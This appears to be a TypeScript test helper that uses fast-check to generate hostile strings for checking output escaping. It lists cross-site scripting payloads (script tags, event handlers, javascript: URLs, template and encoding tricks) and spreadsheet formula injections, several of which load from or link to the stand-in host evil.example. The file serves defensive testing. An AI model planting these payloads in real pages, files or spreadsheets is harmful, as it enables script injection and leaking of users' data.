import fc from 'fast-check';

/** Stands in every hostile text, so that it is found wherever it ends up. */
export const MARK = 'zz8472';

/** Ways a text has become code, an element or an attribute elsewhere. */
const SCRIPTS: readonly string[] = [
  `<script>${MARK}</script>`,
  `<script src=//evil.example/${MARK}>`,
  `<img src=x onerror=${MARK}>`,
  `<svg/onload=${MARK}>`,
  `<svg><script>${MARK}</script></svg>`,
  `<iframe srcdoc="&lt;script>${MARK}&lt;/script>">`,
  `<iframe src=javascript:${MARK}>`,
  `<a href=javascript:${MARK}>x</a>`,
  `<form action=//evil.example/${MARK}><button>`,
  `<input autofocus onfocus=${MARK}>`,
  `<details open ontoggle=${MARK}>`,
  `<video><source onerror=${MARK}>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${MARK}>`,
  `<style>@import"//evil.example/${MARK}"</style>`,
  `<link rel=stylesheet href=//evil.example/${MARK}>`,
  `<meta http-equiv=refresh content="0;url=//evil.example/${MARK}">`,
  `<base href=//evil.example/${MARK}/>`,
  `<template><script>${MARK}</script></template>`,
  `<!--${MARK}--><img src=x onerror=${MARK}>`,
  `<![CDATA[${MARK}]]>`,
  `</script><script>${MARK}</script>`,
  `</title><script>${MARK}</script>`,
  `</textarea><script>${MARK}</script>`,
  `</style><script>${MARK}</script>`,
  `--><script>${MARK}</script>`,
  `]]><script>${MARK}</script>`,
  `" onmouseover="${MARK}`,
  `' onmouseover='${MARK}`,
  `" style="background:url(//evil.example/${MARK})`,
  `\` onmouseover=${MARK}`,
  `x" autofocus onfocus=${MARK} y="`,
  `javascript:${MARK}`,
  `data:text/html,<script>${MARK}</script>`,
  `{{constructor.constructor('${MARK}')()}}`,
  `{{{${MARK}}}}`,
  `{{&${MARK}}}{{#${MARK}}}`,
  `\${${MARK}}`,
  `$&$'$\`$1${MARK}`,
  `&lt;script&gt;${MARK}`,
  `&#60;img src=x onerror=${MARK}&#62;`,
  `\\u003cimg src=x onerror=${MARK}\\u003e`,
  `%3Cscript%3E${MARK}%3C/script%3E`,
  `\u202e<b>${MARK}`,
  `\ufeff<b>${MARK}`,
  `＜script＞${MARK}＜/script＞`,
  `<\u0000script>${MARK}</script>`,
];

/** Ways a cell has become a formula, or more cells. */
const FORMULAS: readonly string[] = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  '|',
  '%',
  '＝',
  '＋',
  '－',
  '＠',
]
  .flatMap((sign) => ['', ' ', '\u00a0', '\u200b', '\ufeff', '\u2066'].map((before) => before + sign))
  .map((start) => `${start}HYPERLINK("http://evil.example/${MARK}")`)
  .concat([`x";=1+1;"${MARK}`, `x\r\n=1+1;${MARK}`, `x\n@SUM(1);${MARK}`]);

export const HOSTILE: readonly string[] = [...SCRIPTS, ...FORMULAS];

const frame = fc.constantFrom('', ' ', 'Ana ', '"', "'", '>', '/>', '`', '\\', '&', '\t', '\n', 'á', '<b>');

/** `count` of them, the plain ones first; then mixed: two of them, framed, in another case. */
export function hostileTexts(count: number, seed: number): string[] {
  const one = fc.constantFrom(...HOSTILE);
  const mixed = fc
    .tuple(frame, one, frame, fc.option(one, { nil: '' }), fc.constantFrom('as is', 'upper'))
    .map(([before, first, between, second, how]) => {
      const text = before + first + between + second;
      return how === 'upper' ? text.toUpperCase().replaceAll(MARK.toUpperCase(), MARK) : text;
    });
  return [...HOSTILE, ...fc.sample(mixed, { numRuns: Math.max(0, count - HOSTILE.length), seed })];
}
